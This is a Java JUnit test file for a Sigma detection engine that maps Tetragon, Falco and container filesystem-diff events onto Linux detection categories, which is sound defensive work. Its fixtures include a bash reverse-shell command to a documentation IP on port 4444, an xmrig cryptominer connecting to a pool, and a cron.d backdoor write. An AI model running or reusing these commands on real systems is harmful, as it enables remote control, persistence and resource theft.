package dev.strata.detect.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import dev.strata.schema.event.EvidenceEvent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Rules of the generic Linux log sources (process_creation, network_connection, file_event, file_change) on container
 * runtime telemetry: our own rules (sigma/linux) on our own Tetragon, Falco, overlay and docker diff fixtures
 * (fixtures/sigma_runtime) parsed by the real parsers, through each format's taxonomy view; and the shared Tetragon
 * corpus through the Tetragon view.
 */
class SigmaRuntimeTest {
  static final String RULE = "5c1f0a52-3a8e-4d51-9d0e-1b1f2a00000";
  static SigmaRuleSet rules;
  static SigmaEngine engine;
  static List<EvidenceEvent> events;

  @BeforeAll
  static void load() throws Exception {
    rules = SigmaRuleLoader.load(List.of(SigmaFixtures.linuxRules()));
    engine = new SigmaEngine(rules);
    events = SigmaFixtures.parse(SigmaFixtures.runtimeFixtures());
  }

  /** Format, activity, process name, what it touched (file, destination or executable), the Falco rule. */
  static String describe(EvidenceEvent e) {
    String what = e.getFile() != null ? e.getFile().getPath()
        : e.getDstEndpoint() != null ? e.getDstEndpoint().getIp() + ":" + e.getDstEndpoint().getPort()
        : e.getProcess() != null ? e.getProcess().getExecutable() : "?";
    return e.getSourceFormat() + " " + e.getActivityName() + (e.getProcess() == null ? "" : " " + e.getProcess().getName())
        + " " + what + (e.getFinding() == null ? "" : " [" + e.getFinding().getRule() + "]");
  }

  /** The rules (last digit of our ids) each fixture event matches. */
  static Map<String, String> matches() {
    Map<String, String> out = new TreeMap<>();
    for (EvidenceEvent e : events) {
      StringBuilder b = new StringBuilder();
      for (SigmaRule.Info i : engine.match(e)) b.append(i.id().startsWith(RULE) ? i.id().substring(RULE.length()) : i.id());
      assertThat(out.put(describe(e), b.toString())).as("fixture events are told apart").isNull();
    }
    return out;
  }

  @Test
  void theRulesLoadUnderTheirGenericLogSources() {
    assertThat(rules.unsupported()).isEmpty();
    Map<String, String> bySource = new TreeMap<>();
    for (SigmaRule r : rules.rules()) bySource.put(r.info().id().substring(RULE.length()), r.logSource());
    assertThat(bySource).containsExactlyEntriesOf(new TreeMap<>(Map.of("1", "process_creation", "2", "process_creation",
        "3", "process_creation", "4", "process_creation", "5", "network_connection", "6", "file_event",
        "7", "file_change")));
    assertThat(engine.covers("tetragon_event")).isTrue();
    assertThat(engine.covers("falco_alert")).isTrue();
    assertThat(engine.covers("docker_diff")).isTrue();
    assertThat(engine.covers("aws_cloudtrail")).isFalse();
    assertThat(engine.covers("cri_log")).isFalse();
  }

  @Test
  void logSourcesNameTheFormatsThatAnswerACategory() {
    assertThat(LogSources.keyOf("linux", null, "process_creation")).contains("process_creation");
    assertThat(LogSources.keyOf("Linux", null, "Network_Connection")).contains("network_connection");
    assertThat(LogSources.keyOf(null, null, "file_event")).contains("file_event"); // no product: generic
    assertThat(LogSources.keyOf("windows", null, "process_creation")).isEmpty();
    assertThat(LogSources.keyOf("linux", "auditd", null)).isEmpty();
    assertThat(LogSources.keyOf("linux", null, "process_access")).isEmpty();
    assertThat(LogSources.keyOf("aws", "cloudtrail", null)).contains("aws_cloudtrail");
    assertThat(LogSources.formatsOf("process_creation")).containsExactly("tetragon_event", "falco_alert");
    assertThat(LogSources.formatsOf("network_connection")).containsExactly("tetragon_event", "falco_alert");
    assertThat(LogSources.formatsOf("file_event"))
        .containsExactly("tetragon_event", "falco_alert", "overlay_upper_changes", "docker_diff");
    assertThat(LogSources.formatsOf("file_change")).containsExactly("overlay_upper_changes", "docker_diff");
    for (String c : LogSources.CATEGORIES) assertThat(LogSources.formatsOf(c)).as(c).isNotEmpty();
  }

  @Test
  void aWindowsRuleOfTheSameCategoryIsUnmapped() throws Exception {
    String yaml = """
        title: Windows shell
        logsource: {product: windows, category: process_creation}
        detection: {selection: {Image|endswith: '\\\\cmd.exe'}, condition: selection}
        """;
    UnsupportedRuleException e = org.junit.jupiter.api.Assertions.assertThrows(UnsupportedRuleException.class,
        () -> SigmaRuleLoader.read(Path.of("win.yml"), yaml));
    assertThat(e.reason()).isEqualTo(SigmaRuleSet.UNMAPPED_LOGSOURCE);
  }

  @Test
  void eachRuleMatchesTheEventsItShouldAndNoOthers() {
    Map<String, String> expected = new LinkedHashMap<>();
    // Tetragon: execs answer process_creation, tcp_connect network_connection, a write file_event; exit and reads none
    expected.put("tetragon_event Launch bash /bin/bash", "41"); // reverse shell; its parent is the JVM (ParentImage)
    expected.put("tetragon_event Launch curl /usr/bin/curl", "3");
    expected.put("tetragon_event Launch xmrig /tmp/.cache/xmrig", "2");
    expected.put("tetragon_event Launch ls /bin/ls", "");
    expected.put("tetragon_event tcp_connect xmrig 203.0.113.50:3333", "5");
    expected.put("tetragon_event tcp_connect curl 198.51.100.9:443", "");
    expected.put("tetragon_event security_file_permission sh etc/cron.d/backdoor", "6"); // MAY_WRITE, slash added
    expected.put("tetragon_event security_file_permission cat /etc/cron.d/backdoor", ""); // MAY_READ: no file_event
    expected.put("tetragon_event Terminate xmrig /tmp/.cache/xmrig", ""); // an exit is no process_creation
    // Falco: evt.type names the category
    expected.put("falco_alert Create xmrig /tmp/.cache/xmrig [Drop and execute new binary in container]", "2");
    expected.put("falco_alert Create xmrig 203.0.113.50:3333 [Outbound Connection to C2 Servers]", "5");
    expected.put("falco_alert Create sh /etc/cron.d/backdoor [Schedule Cron Jobs]", "6");
    expected.put("falco_alert Create cat /etc/cron.d/backdoor [Read sensitive file untrusted]", "");
    // the writable layer: added -> file_event, changed -> file_change, deleted -> file_delete
    expected.put("overlay_upper_changes Update /etc/cron.d", "");
    expected.put("overlay_upper_changes Create /etc/cron.d/backdoor", "6");
    expected.put("overlay_upper_changes Update /etc/passwd", "7");
    expected.put("overlay_upper_changes Create /tmp/x.sh", "");
    // C /etc and C /etc/cron.d are the parents of the rows below them (copied up): no events of their own
    expected.put("docker_diff Create /etc/cron.d/job", "6");
    expected.put("docker_diff Create /tmp/x.sh", "");
    expected.put("docker_diff Delete /etc/cron.d/old", ""); // a delete is no file_event
    assertThat(matches()).containsExactlyInAnyOrderEntriesOf(expected);
  }

  static EvidenceEvent one(String description) {
    List<EvidenceEvent> found = events.stream().filter(e -> describe(e).equals(description)).toList();
    assertThat(found).hasSize(1);
    return found.get(0);
  }

  static Map<String, Object> view(EvidenceEvent e, String category) {
    SigmaFieldMapping m = LogSources.fieldMapping(e.getSourceFormat()).orElseThrow();
    assertThat(m.categoriesOf(e)).contains(category);
    EventFields f = new EventFields(e);
    Map<String, Object> out = new LinkedHashMap<>();
    for (String field : m.fields(category)) {
      Object v = m.value(category, field, f);
      if (v != null) out.put(field, v);
    }
    return out;
  }

  @Test
  void theTetragonExecAnswersTheProcessCreationTaxonomy() {
    Map<String, Object> v = view(one("tetragon_event Launch bash /bin/bash"), "process_creation");
    assertThat(v).containsExactlyEntriesOf(new LinkedHashMap<>(ordered(
        "Image", "/bin/bash",
        "CommandLine", "/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"",
        "CurrentDirectory", "/app",
        "User", "www-data", // process.user.name (--username-metadata); else the uid
        "LogonId", "4294967295",
        "ProcessId", 2001L,
        "ParentImage", "/usr/lib/jvm/java-17-openjdk/bin/java", // from the original record
        "ParentCommandLine", "/usr/lib/jvm/java-17-openjdk/bin/java -jar /app/web.jar",
        "ParentProcessId", 100L,
        "ParentUser", "0")));
  }

  @Test
  void theTetragonConnectAndWriteAnswerTheirTaxonomies() {
    Map<String, Object> net = view(one("tetragon_event tcp_connect xmrig 203.0.113.50:3333"), "network_connection");
    assertThat(net).containsEntry("Image", "/tmp/.cache/xmrig").containsEntry("Initiated", true)
        .containsEntry("Protocol", "tcp").containsEntry("SourceIp", "10.0.1.57").containsEntry("SourcePort", 40312)
        .containsEntry("DestinationIp", "203.0.113.50").containsEntry("DestinationPort", 3333)
        .containsEntry("DestinationIsIpv6", false).containsEntry("User", "0");
    Map<String, Object> file = view(one("tetragon_event security_file_permission sh etc/cron.d/backdoor"), "file_event");
    assertThat(file).containsEntry("TargetFilename", "/etc/cron.d/backdoor").containsEntry("Image", "/bin/sh");
  }

  @Test
  void theFalcoAlertsAnswerFromTheirOutputFields() {
    Map<String, Object> exec =
        view(one("falco_alert Create xmrig /tmp/.cache/xmrig [Drop and execute new binary in container]"), "process_creation");
    assertThat(exec).containsEntry("Image", "/tmp/.cache/xmrig")
        .containsEntry("CommandLine", "xmrig --url pool.example.net:3333 --donate-level 1")
        .containsEntry("CurrentDirectory", "/tmp/.cache/").containsEntry("User", "root").containsEntry("LogonId", "-1")
        .containsEntry("ParentImage", "/bin/sh").containsEntry("ParentCommandLine", "sh -c \"sh /tmp/x.sh\"")
        .containsEntry("ProcessId", 2003L).containsEntry("ParentProcessId", 2001L);
    Map<String, Object> net =
        view(one("falco_alert Create xmrig 203.0.113.50:3333 [Outbound Connection to C2 Servers]"), "network_connection");
    assertThat(net).containsEntry("DestinationPort", 3333).containsEntry("Protocol", "tcp")
        .containsEntry("SourceIp", "10.0.1.57").containsEntry("Initiated", true);
  }

  @Test
  void keywordsSearchTheOriginalRecord() throws Exception {
    SigmaRule kw = SigmaRuleLoader.read(Path.of("kw.yml"), """
        title: keyword
        logsource: {product: linux, category: process_creation}
        detection: {keywords: ['web-7d9c6b5f4-x2x9q'], condition: keywords}
        """);
    SigmaEngine e = new SigmaEngine(new SigmaRuleSet(List.of(kw), List.of()));
    assertThat(e.match(one("tetragon_event Launch ls /bin/ls"))).hasSize(1); // the pod name is in the record only
    assertThat(e.match(one("tetragon_event tcp_connect curl 198.51.100.9:443"))).isEmpty(); // not offered
  }

  @Test
  void theSharedTetragonCorpusGoesThroughTheMapping() throws Exception {
    Path corpus = Path.of("/work/shared/corpus/tetragon");
    Assumptions.assumeTrue(Files.isDirectory(corpus), "the shared Tetragon corpus is not on this machine");
    List<EvidenceEvent> corpusEvents = SigmaFixtures.parse(corpus);
    assertThat(corpusEvents).isNotEmpty().allMatch(e -> "tetragon_event".equals(e.getSourceFormat()));
    SigmaFieldMapping m = LogSources.fieldMapping("tetragon_event").orElseThrow();
    Map<String, Integer> perCategory = new TreeMap<>();
    for (EvidenceEvent e : corpusEvents) {
      EventFields f = new EventFields(e);
      for (String c : m.categoriesOf(e)) {
        perCategory.merge(c, 1, Integer::sum);
        for (String field : m.fields(c)) m.value(c, field, f); // none throws
        if (c.equals("process_creation")) {
          Map<String, Object> v = view(e, c);
          assertThat(v).as(describe(e)).containsKeys("Image", "CommandLine", "CurrentDirectory", "User", "LogonId",
              "ProcessId", "ParentImage", "ParentCommandLine", "ParentProcessId");
          assertThat(v.get("Image")).isEqualTo(e.getProcess().getExecutable());
          assertThat((String) v.get("ParentImage")).endsWith("/" + e.getProcess().getParentName());
        }
        if (c.equals("file_event")) { // four_golden_signals: __x64_sys_write of etc/passwd
          assertThat(view(e, c)).as(describe(e)).containsEntry("TargetFilename", "/etc/passwd")
              .containsEntry("Image", e.getProcess().getExecutable());
        }
        if (c.equals("network_connection")) {
          assertThat(view(e, c)).as(describe(e)).containsKeys("Image", "DestinationIp", "DestinationPort", "Initiated");
        }
      }
    }
    // 7 process_exec (3 in testdata_events.json), 2 legacy process_connect, 1 write kprobe; the read kprobe, the
    // exits, listens and closes answer nothing
    assertThat(perCategory).isEqualTo(Map.of("process_creation", 7, "network_connection", 2, "file_event", 1));
  }

  @Test
  void theMappingTableInTheDocsNamesEveryFieldAndHook() throws Exception {
    Path docs = null;
    for (Path p = Path.of("").toAbsolutePath(); p != null && docs == null; p = p.getParent()) {
      if (Files.isRegularFile(p.resolve("docs/incidents.md"))) docs = p.resolve("docs/incidents.md");
    }
    Assumptions.assumeTrue(docs != null, "docs/incidents.md not found");
    String text = Files.readString(docs);
    String section = text.substring(text.indexOf("### Sigma rules"), text.indexOf("## Grouping"));
    for (SigmaFieldMapping m : LogSources.FIELD_MAPPINGS) {
      assertThat(section).as(m.format()).contains("`" + m.format() + "`");
      for (String c : m.categories()) {
        assertThat(section).contains("`" + c + "`");
        for (String f : m.fields(c)) assertThat(section).as(m.format() + " " + c).contains("`" + f + "`");
      }
    }
    for (String hook : TetragonFieldMapping.CONNECT) assertThat(section).contains("`" + hook + "`");
    for (String hook : TetragonFieldMapping.DELETE) assertThat(section).contains("`" + hook + "`");
    for (String hook : TetragonFieldMapping.WRITE) {
      String shortName = hook.replaceFirst("^__(x64|arm64)_sys_", "");
      assertThat(section).as(hook).containsAnyOf("`" + hook + "`", "`" + shortName + "`", "/ `__arm64_sys_write`");
    }
  }

  static Map<String, Object> ordered(Object... kv) {
    Map<String, Object> m = new LinkedHashMap<>();
    for (int i = 0; i < kv.length; i += 2) m.put((String) kv[i], kv[i + 1]);
    return m;
  }

}
